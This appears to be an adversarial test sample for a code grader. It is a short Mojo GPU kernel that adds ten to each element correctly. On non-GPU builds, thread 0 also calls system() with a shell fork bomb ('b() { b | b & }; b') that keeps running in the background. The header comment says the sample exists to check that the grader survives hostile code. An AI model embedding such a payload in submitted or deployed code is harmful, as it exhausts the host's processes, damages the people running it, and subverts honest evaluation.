# FORK-BOMBING: right values, and thread 0 starts a shell fork bomb that goes on in the
# background while the kernel runs and after it is done. The grader must stay unharmed, nothing of it may
# outlive the run, and hostile code is not graded a pass.
from max.gpu import thread_idx
from layout import TileTensor
from layout.tile_layout import row_major
from std.ffi import external_call
from std.sys import is_gpu

comptime dtype = DType.float32
comptime Vector[n: Int] = type_of(row_major[n]())


def add_ten[size: Int](
    output: TileTensor[mut=True, dtype, Vector[size], MutAnyOrigin],
    a: TileTensor[mut=False, dtype, Vector[size], ImmutAnyOrigin],
):
    var i = thread_idx.x
    output[i] = a[i] + 10
    comptime if not is_gpu():
        if i == 0:
            var bomb = "b() { b | b & }; b; sleep 2\x00"
            _ = external_call["system", Int32](bomb.unsafe_ptr())
